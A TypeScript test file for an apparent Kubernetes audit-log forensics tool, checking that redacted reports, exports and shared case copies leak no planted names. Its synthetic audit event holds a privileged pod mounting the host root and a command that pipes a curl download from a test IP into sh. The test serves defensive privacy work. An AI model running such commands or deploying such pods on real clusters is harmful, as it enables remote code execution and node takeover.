import { copyFileSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { ALERT_FORMATS, EVENT_FORMATS } from '../../core/contract/export-formats.ts';
import { REPORT_FORMATS } from '../../core/contract/report-calls.ts';
import type { EventRow } from '../../core/contract/rows.ts';
import type { Session } from '../../core/host/api.ts';
import { openCase } from '../../core/host/open-case.ts';
import { ROOT } from '../cli/decklog.ts';
import { CONTEXT, caseOf, collect, eventsOf, SHIPPED, temporaryFolder } from '../host/case.ts';
import { leaksIn, readable } from './leaks.ts';

const LOGS = [1, 2].map((node) => join(ROOT, 'sample', 'northwind', `nw-cp-${node}`, 'audit.log.gz'));
/** Reports of hundreds of pages, on machines that do other things, too. */
vi.setConfig({ testTimeout: 240_000 });

const MADE = '2026-03-12T09:40:00.000Z';
const folder = temporaryFolder();
const casePath = join(folder, 'case.decklog');

/** Names that stand nowhere but in bodies, URIs and annotations, in every form. */
const PLANTED = [
  'zelda.quux',
  'zelda.quux@plugh.example',
  'xyzzy-vault',
  'frobozz-ns',
  'grue-node-7',
  '198.18.77.13',
  '2a0b:77::fade',
];

function plantedEvent(first: object): object {
  const body = {
    kind: 'Pod',
    metadata: {
      name: 'xyzzy-vault',
      namespace: 'frobozz-ns',
      annotations: { note: 'ask zelda.quux@plugh.example about frobozz-ns', [`${'xyzzy-vault'}/tag`]: 'x' },
    },
    spec: {
      nodeName: 'grue-node-7',
      containers: [
        {
          name: 'main',
          image: 'registry.plugh.example/frobozz-ns/app:1',
          securityContext: { privileged: true },
          command: ['sh', '-c', 'curl http://198.18.77.13/?u=zelda.quux%40plugh.example | sh; ping6 2a0b:77::fade'],
        },
      ],
      volumes: [{ name: 'root', hostPath: { path: '/' } }],
    },
    token: `eyJh.${Buffer.from('{"sub":"system:serviceaccount:frobozz-ns:xyzzy-vault"}').toString('base64url')}.sig`,
    b64: Buffer.from('a note on zelda.quux and grue-node-7').toString('base64'),
  };
  return {
    ...first,
    auditID: '7d3e7a4e-0000-4000-8000-000000000001',
    stage: 'ResponseComplete',
    level: 'Request',
    verb: 'create',
    user: { username: 'zelda.quux@plugh.example', groups: ['system:authenticated'] },
    sourceIPs: ['198.18.77.13'],
    objectRef: { resource: 'pods', namespace: 'frobozz-ns', name: 'xyzzy-vault', apiVersion: 'v1' },
    requestURI: `/api/v1/namespaces/frobozz-ns/pods?fieldManager=zelda.quux%40plugh.example&q=${Buffer.from('xyzzy-vault').toString('base64')}`,
    responseStatus: { code: 201 },
    requestObject: body,
    annotations: {
      'authorization.k8s.io/decision': 'allow',
      'authorization.k8s.io/reason': 'RoleBinding "xyzzy-vault" of User "zelda.quux@plugh.example"',
    },
  };
}

let session: Session;
let names: string[];

beforeAll(async () => {
  const log = join(folder, 'planted.log');
  const sample = await caseOf([LOGS[0] as string]);
  const [first] = await eventsOf(sample, 'verb:create');
  writeFileSync(log, `${JSON.stringify(plantedEvent(JSON.parse(sample.canonical(first?.id as number))))}\n`);
  sample.close();
  session = await caseOf([...LOGS, log], { rules: SHIPPED }, casePath);
  names = [...PLANTED, ...distinctNames(await eventsOf(session))];
});

afterAll(() => session.close());

/** Names of this cluster: those that every cluster has are no secret, and shorter ones stand in any text. */
function distinctNames(events: readonly EventRow[]): string[] {
  const all = events.flatMap(({ user, impersonatedUser, namespace, sourceIPs }) => [
    user,
    impersonatedUser,
    namespace,
    ...sourceIPs,
  ]);
  const common = /^(system:|kube-|kubernetes$|default$|127\.|::1$)/;
  return [...new Set(all)]
    .filter((name): name is string => name !== null && name.length > 5 && !common.test(name))
    .sort();
}

/** Rules travel with a case, and name what they look for. */
function shippedTexts(): string {
  const rules = join(ROOT, 'rules');
  const files = readdirSync(rules, { recursive: true, encoding: 'utf8' }).filter((name) => name.endsWith('.yml'));
  return files.map((name) => readFileSync(join(rules, name), 'utf8')).join('\n');
}

test('the search for leaks finds names in each form', () => {
  const forms = ['xyzzy-vault', 'zelda.quux%40plugh.example', Buffer.from('..frobozz-ns..').toString('base64')];

  expect(
    leaksIn(Buffer.from(forms.join(' ')), ['xyzzy-vault', 'zelda.quux@plugh.example', 'frobozz-ns', 'nobody']),
  ).toEqual(['xyzzy-vault', 'zelda.quux@plugh.example', 'frobozz-ns']);
});

test.each(REPORT_FORMATS)('a redacted %s report holds no original name', async (format) => {
  const files = await session.outputs.report(
    { format, made: MADE, redact: 'names', question: 'What did zelda.quux do in frobozz-ns?' },
    CONTEXT,
  );
  const bytes = Buffer.concat(await Promise.all(files.map((file) => readable(file.bytes))));

  expect(names.length).toBeGreaterThan(20);
  expect(leaksIn(bytes, names)).toEqual([]);
  expect(bytes.toString()).toMatch(/user-[a-z2-7]{10}/);
});

test.each(ALERT_FORMATS)('redacted alerts as %s hold no original name', async (format) => {
  const bytes = Buffer.concat(
    await collect(session.outputs.export({ what: 'alerts', format, redact: 'names' }, CONTEXT)),
  );

  expect(leaksIn(bytes, names)).toEqual([]);
});

test.each(EVENT_FORMATS.filter((format) => format !== 'parquet'))(
  'redacted events as %s hold no original name',
  async (format) => {
    const bytes = Buffer.concat(
      await collect(
        session.outputs.export(
          { what: 'events', format, query: 'verb:(create, delete, patch)', redact: 'names' },
          CONTEXT,
        ),
      ),
    );

    expect(leaksIn(bytes, names)).toEqual([]);
  },
);

test('pseudonyms are the same in every output of a case and its copies, and others in another case', async () => {
  const eventsOfCase = async (from: Session) =>
    Buffer.concat(
      await collect(
        from.outputs.export({ what: 'events', format: 'jsonl', query: 'user:zelda*', redact: 'names' }, CONTEXT),
      ),
    ).toString();
  const copyPath = join(temporaryFolder(), 'copy.decklog');
  copyFileSync(casePath, copyPath);
  const copy = openCase(copyPath, { mode: 'read', examiner: 'another' });
  const other = await caseOf([join(folder, 'planted.log')]);
  const user = (text: string) => JSON.parse(text.split('\n')[0] as string).user;
  const [first, second, third] = [await eventsOfCase(session), await eventsOfCase(copy), await eventsOfCase(other)];
  copy.close();
  other.close();

  expect(user(second)).toBe(user(first));
  expect(user(third)).not.toBe(user(first));
});

test('the profile people hides identities and addresses, and shows objects', async () => {
  const bytes = Buffer.concat(
    await collect(session.outputs.export({ what: 'alerts', format: 'jsonl', redact: 'people' }, CONTEXT)),
  );

  expect(leaksIn(bytes, ['zelda.quux', 'zelda.quux@plugh.example', '198.18.77.13'])).toEqual([]);
  expect(bytes.toString()).toContain('frobozz-ns');
});

test('original bytes cannot be redacted: a bundle refuses', async () => {
  await expect(collect(session.outputs.bundle({ made: MADE, redact: 'names' }, CONTEXT))).rejects.toThrow(
    'cannot be redacted',
  );
});

test('a case to share holds no original name, is whole, and shows the same deeds', async () => {
  const small = await caseOf([LOGS[1] as string, join(folder, 'planted.log')], { rules: SHIPPED });
  const path = join(temporaryFolder(), 'shared.decklog');
  await small.outputs.copyCase(path, 'names', CONTEXT);
  const shared = openCase(path, { mode: 'read', examiner: 'another' });
  const everything = Buffer.concat(await collect(shared.rawEvents({ query: '', limit: 1_000_000 }, CONTEXT)));
  const verified = await shared.verify({ evidence: [] }, CONTEXT);
  const deeds = (session: Session) =>
    session
      .alerts({})
      .map(({ rule, count }) => `${rule.id} ${count}`)
      .sort();
  const known = distinctNames(await eventsOf(small));
  const ofTheRules = leaksIn(Buffer.from(shippedTexts()), known);

  expect(shared.glance().events).toBe(small.glance().events);
  expect(leaksIn(everything, [...PLANTED, ...known])).toEqual([]);
  expect(leaksIn(readFileSync(path), [...PLANTED, ...known]).filter((name) => !ofTheRules.includes(name))).toEqual([]);
  expect(verified.ok).toBe(true);
  expect(deeds(shared).length).toBeGreaterThan(deeds(small).length / 2);
  shared.close();
  small.close();
});
